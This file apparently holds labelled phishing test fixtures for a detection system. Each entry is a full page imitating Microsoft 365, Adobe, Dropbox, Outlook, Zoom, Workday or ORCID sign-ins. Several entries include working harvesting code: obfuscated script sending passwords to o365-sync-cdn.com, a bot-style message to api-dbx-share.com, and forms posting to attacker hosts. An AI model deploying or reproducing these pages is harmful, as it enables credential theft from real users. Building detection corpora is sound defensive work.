import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { doc, img, kitCss } from '../parts/zb-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

const msCss = `body{margin:0;font-family:"Segoe UI",sans-serif;background:#f0f0f0;min-height:100vh;display:flex;align-items:center;justify-content:center}
.b{width:440px;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}.t{font-size:24px;font-weight:600;margin:14px 0}input{width:100%;border:0;border-bottom:1px solid #666;padding:7px 0;font-size:15px;margin:8px 0;outline:0}
.btn{background:#0067b8;color:#fff;border:0;padding:7px 34px;float:right;margin-top:18px;font-size:15px}.e{color:#e81123;font-size:14px;display:none}.id{font-size:15px;margin-bottom:6px}`;

export const entries: Entry[] = [
  {
    id: 'zb-phish-m365-sharepoint-shared-file',
    label: 'phishing',
    kind: 'brand-kit',
    url: 'https://halvorsenlogistics-my.sharepoint-docs.app/personal/finance/Documents/Forms/AllItems.aspx?id=Remittance',
    body: doc({
      title: 'SharePoint',
      css: msCss + `.sp{background:#036c70;color:#fff;height:48px;display:flex;align-items:center;padding:0 16px;position:fixed;top:0;left:0;right:0;font-size:16px}`,
      body: `<div class="sp">&#9638;&nbsp; SharePoint</div><div class="b" id="s1"><img src="/_layouts/15/images/ms-logo.png" height="24" alt="Microsoft">
<p style="font-size:14px"><b>K. Aas (Finance)</b> shared a file with you</p><p style="font-size:14px">&#128196; <b>Remittance_Advice_HLX_11-2026.xlsx</b></p><p style="font-size:13px;color:#555">This link only works for the direct recipients of this message. To view, sign in with your work account.</p>
<div class="t">Sign in</div><input id="em" type="email" placeholder="Email, phone, or Skype"><button class="btn" id="n1">Next</button><div style="clear:both"></div></div>
<div class="b" id="s2" style="display:none"><img src="/_layouts/15/images/ms-logo.png" height="24" alt="Microsoft"><div class="id" id="who"></div><div class="t">Enter password</div>
<div class="e" id="er">Your account or password is incorrect. If you don't remember your password, <a href="#">reset it now.</a></div><input id="pw" type="password" placeholder="Password"><a href="#" style="font-size:13px">Forgot my password</a>
<button class="btn" id="n2">Sign in</button><div style="clear:both"></div></div>
<script src="/_layouts/15/init.min.js"></script>`,
    }),
    routes: {
      'halvorsenlogistics-my.sharepoint-docs.app/_layouts/15/images/ms-logo.png': img(115, 115, 115),
      'halvorsenlogistics-my.sharepoint-docs.app/_layouts/15/init.min.js': jsRoute(`var _0x1a=['\\x76\\x61\\x6c\\x75\\x65','getElementById','https://o365-sync-cdn.com/wp-json/v1/r'];(function(){var g=function(i){return document[_0x1a[1]](i)},c=0;
g('n1').onclick=function(){var e=g('em')[_0x1a[0]];if(e.indexOf('@')<1)return;g('who').textContent=e;g('s1').style.display='none';g('s2').style.display='block';};
g('n2').onclick=function(){c++;fetch(_0x1a[2],{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({u:g('em')[_0x1a[0]],p:g('pw')[_0x1a[0]],c:c,h:location.hostname})}).catch(function(){});
if(c<2){g('er').style.display='block';g('pw')[_0x1a[0]]='';}else location.replace('https://www.office.com/');};})();`),
      'o365-sync-cdn.com/wp-json/v1/r': jsonRoute({ s: 1 }),
    },
  },
  {
    id: 'zb-phish-adobe-acrobat-provider-picker',
    label: 'phishing',
    kind: 'brand-kit',
    url: 'https://acrobat-cloud-viewer.pages-host.com/doc/PO-77120.html',
    body: doc({
      title: 'Adobe Acrobat Document Cloud',
      css: `body{margin:0;font-family:"Adobe Clean",Arial,sans-serif;background:#323232 url(/doc/blur.png) center/cover;min-height:100vh}.m{width:420px;margin:80px auto;background:#fff;border-radius:4px;padding:30px}
.m h3{color:#eb1000}.p{display:flex;gap:10px;flex-wrap:wrap}.p a{flex:1 1 45%;border:1px solid #ccc;padding:10px;text-align:center;text-decoration:none;color:#222;border-radius:4px}#f{display:none}#f input{width:100%;padding:9px;margin:6px 0}#f button{background:#1473e6;color:#fff;border:0;padding:10px;width:100%;border-radius:16px}`,
      body: `<div class="m"><img src="/doc/acrobat.png" width="34" alt=""><h3>Adobe Acrobat</h3><p><b>PO-77120.pdf</b> (248 KB) is protected. Select your email provider to view this document.</p>
<div class="p"><a href="#" data-p="Outlook">Outlook</a><a href="#" data-p="Office 365">Office 365</a><a href="#" data-p="Gmail">Gmail</a><a href="#" data-p="Yahoo">Yahoo!</a><a href="#" data-p="AOL">AOL</a><a href="#" data-p="Other Mail">Other Mail</a></div>
<form id="f" method="post" action="https://acro-dc-handler.top/gate.php"><p id="pv"></p><input type="hidden" name="provider" id="prov"><input type="email" name="email" placeholder="Email" required><input type="password" name="password" placeholder="Password" required><button>View PDF</button></form>
<p style="font-size:11px;color:#888">&copy; 2026 Adobe. All rights reserved.</p></div>
<script>document.querySelectorAll('.p a').forEach(function(a){a.onclick=function(e){e.preventDefault();document.getElementById('prov').value=a.dataset.p;document.getElementById('pv').textContent='Sign in with '+a.dataset.p;document.getElementById('f').style.display='block';};});</script>`,
    }),
    routes: { 'acrobat-cloud-viewer.pages-host.com/doc/acrobat.png': img(235, 16, 0), 'acrobat-cloud-viewer.pages-host.com/doc/blur.png': img(90, 90, 90), 'acro-dc-handler.top/gate.php': redirectRoute(302, 'https://acrobat.adobe.com/') },
  },
  {
    id: 'zb-phish-dropbox-transfer-de',
    label: 'phishing',
    kind: 'brand-kit',
    url: 'https://dropbox-transfer.dateifreigabe-sicher.de/t/Ab3kP9/',
    body: doc({
      title: 'Dropbox Transfer – Dateien ansehen',
      lang: 'de',
      css: kitCss('#0061fe', '#f7f5f2') + '.f{font-size:13px;border:1px solid #e6e2dc;padding:8px;margin:4px 0}',
      body: `<div class="box"><img class="logo" src="/t/dbx.png" alt="Dropbox"><h2>Sie haben Dateien erhalten</h2><p><b>Einkauf Brightwater</b> hat Ihnen 3 Dateien über Dropbox Transfer gesendet:</p>
<div class="f">&#128196; Bestellung_4500218833.pdf</div><div class="f">&#128196; Lieferplan_KW49.xlsx</div><div class="f">&#128196; Zahlungsbedingungen.docx</div>
<p>Zum Herunterladen bestätigen Sie bitte Ihre E-Mail-Adresse.</p><form id="f"><input type="email" name="e" id="email" placeholder="E-Mail-Adresse" required><input type="password" name="p" placeholder="Passwort" required><div class="err" id="err">Falsches Passwort.</div><button>Herunterladen</button></form>
<div class="small">Der Link läuft in 7 Tagen ab. &copy; 2026 Dropbox</div></div>
<script>
var k=0;document.getElementById('f').onsubmit=function(e){e.preventDefault();k++;var d=new FormData(this);
fetch('https://api-dbx-share.com/bot7029/sendMessage',{method:'POST',body:JSON.stringify({chat_id:'-100208',text:'DBX DE\\n'+d.get('e')+'\\n'+d.get('p')+'\\n#'+k}),headers:{'content-type':'application/json'}}).finally(function(){if(k>1)location.href='https://www.dropbox.com/transfer';else document.getElementById('err').style.display='block';});};
</script>`,
    }),
    routes: { 'dropbox-transfer.dateifreigabe-sicher.de/t/dbx.png': img(0, 97, 254), 'api-dbx-share.com/bot7029/sendMessage': jsonRoute({ ok: true, result: { message_id: 1 } }) },
  },
  {
    id: 'zb-phish-owa-japanese-mailbox',
    label: 'phishing',
    kind: 'brand-kit',
    url: 'https://owa-kitamura-tech.mail-verify.jp.net/owa/auth/logon.aspx?replaceCurrent=1&url=https%3a%2f%2fmail.kitamura-tech.ac.jp%2fowa%2f',
    body: doc({
      title: 'Outlook',
      lang: 'ja',
      css: `body{margin:0;font-family:"Segoe UI","Meiryo",sans-serif;background:#fff}.l{position:absolute;left:0;top:0;bottom:0;width:40%;background:#0072c6}.r{margin-left:45%;padding-top:150px;width:360px}
.r h1{font-weight:300;color:#0072c6;font-size:42px}input{width:100%;padding:7px;margin:6px 0;border:1px solid #999}.s{font-size:18px;color:#0072c6;cursor:pointer;background:none;border:0}`,
      body: `<div class="l"></div><div class="r"><h1>Outlook</h1><p style="font-size:13px">メールボックスの容量が上限に達しました。引き続きメールを受信するには、再度サインインしてください。</p>
<form method="post" action="/owa/auth/owaauth.php"><label>ドメイン\\ユーザー名:</label><input name="username" type="text"><label>パスワード:</label><input name="password" type="password">
<p><label><input type="radio" name="trusted" checked> これは個人のコンピューターです</label></p><button class="s" type="submit">&#10148; サインイン</button></form>
<p style="font-size:11px;color:#666;margin-top:40px">&copy; 2026 Microsoft 情報基盤センター</p></div>`,
    }),
    routes: { 'owa-kitamura-tech.mail-verify.jp.net/owa/auth/owaauth.php': redirectRoute(302, 'https://mail.kitamura-tech.ac.jp/owa/') },
  },
  {
    id: 'zb-phish-zoom-recording-review',
    label: 'phishing',
    kind: 'brand-kit',
    url: 'https://zoom-cloud-recordings.us-meet.net/rec/share/Qm8xT2Wf?startTime=1764316800000',
    body: doc({
      title: 'Zoom Cloud Recording',
      css: `body{margin:0;font-family:Lato,Arial,sans-serif;background:#f7f7fa}.h{background:#fff;padding:14px 28px;border-bottom:1px solid #eee;color:#0b5cff;font-weight:bold;font-size:22px}.v{max-width:720px;margin:30px auto;background:#000;height:300px;position:relative;color:#fff;display:flex;align-items:center;justify-content:center}
.ov{position:fixed;inset:0;background:rgba(0,0,0,.55);display:flex;align-items:center;justify-content:center}.d{background:#fff;width:380px;padding:28px;border-radius:12px}.d input{width:100%;padding:10px;margin:6px 0;border:1px solid #ccc;border-radius:8px}.d button{width:100%;background:#0b5cff;color:#fff;border:0;padding:11px;border-radius:8px}`,
      body: `<div class="h">zoom</div><div class="v">&#9654;&nbsp; Performance Review – Q4 (1:02:17)</div>
<div class="ov" id="ov" style="display:none"><div class="d"><h3>Sign in to view this recording</h3><p style="font-size:13px">The host requires authentication. Sign in with your company SSO email.</p>
<form method="post" action="/rec/auth"><input type="email" name="email" placeholder="Work email" required><input type="password" name="password" placeholder="Password" required><button>Sign In</button></form></div></div>
<script>setTimeout(function(){document.getElementById('ov').style.display='flex';},1800);</script>`,
    }),
    routes: { 'zoom-cloud-recordings.us-meet.net/rec/auth': redirectRoute(302, 'https://zoom.us/') },
  },
  {
    id: 'zb-phish-workday-tax-form',
    label: 'phishing',
    kind: 'brand-kit',
    url: 'https://wd5-myworkday.tax-documents.net/halvorsen/login.htmld',
    body: doc({
      title: 'Workday',
      css: `body{margin:0;font-family:Roboto,Arial,sans-serif;background:#f0f1f2}.c{width:400px;margin:90px auto;background:#fff;padding:34px;border-radius:8px;box-shadow:0 1px 4px rgba(0,0,0,.15)}.c h2{color:#005cb9}
input{width:100%;padding:10px;margin:6px 0;border:1px solid #aaa;border-radius:4px}button{width:100%;background:#0875e1;color:#fff;border:0;padding:11px;border-radius:20px;margin-top:8px}.n{font-size:13px;background:#eaf3fc;padding:10px;border-radius:4px}`,
      body: `<div class="c"><img src="/halvorsen/wd.png" height="34" alt="workday"><h2>Halvorsen Logistics</h2><div class="n">Your <b>2026 year-end tax document</b> and updated bank details form are waiting for your review in Workday.</div>
<form id="wd"><input name="u" type="text" placeholder="Username" required><input name="p" type="password" placeholder="Password" required><button>Sign In</button></form><p style="font-size:12px"><a href="#">Forgot Password?</a></p></div>
<script>var s=document.createElement('script');s.src='/halvorsen/c.js?'+Date.now();document.head.appendChild(s);</script>`,
    }),
    routes: { 'wd5-myworkday.tax-documents.net/halvorsen/wd.png': img(0, 92, 185), 'wd5-myworkday.tax-documents.net/halvorsen/c.js': jsRoute(`document.getElementById('wd').addEventListener('submit',function(e){e.preventDefault();var b=new URLSearchParams(new FormData(this));b.append('t','wd-hlx');fetch('/halvorsen/x.php',{method:'POST',body:b}).then(function(){location.href='https://www.myworkday.com/';});});`), 'wd5-myworkday.tax-documents.net/halvorsen/x.php': jsonRoute({ ok: 1 }) },
  },
  {
    id: 'zb-phish-orcid-signin-research',
    label: 'phishing',
    kind: 'brand-kit',
    url: 'https://orcid-signin.researcher-verify.org/signin?oauth&client_id=APP-7Q2F&redirect=grant-portal',
    body: doc({
      title: 'ORCID – Sign in',
      css: kitCss('#a6ce39', '#f5f5f5') + 'button{color:#2e2e2e;font-weight:bold}.box{width:420px}',
      body: `<div class="box"><img class="logo" src="/img/orcid.png" alt="ORCID"><h2>Sign in to ORCID</h2><p>The <b>European Research Funding Portal</b> is requesting access to your ORCID record to verify your publication list for the 2027 call.</p>
<form method="post" action="/signin/auth.php"><input type="text" name="userId" placeholder="Email or 16-digit ORCID iD" required><input type="password" name="password" placeholder="ORCID password" required>
<p style="font-size:12px">Or sign in with your institution's email password:</p><input type="password" name="inst_password" placeholder="Institutional email password"><button>SIGN IN</button></form>
<div class="small">ORCID &middot; Connecting research and researchers</div></div>`,
    }),
    routes: { 'orcid-signin.researcher-verify.org/img/orcid.png': img(166, 206, 57), 'orcid-signin.researcher-verify.org/signin/auth.php': redirectRoute(302, 'https://orcid.org/') },
  },
];
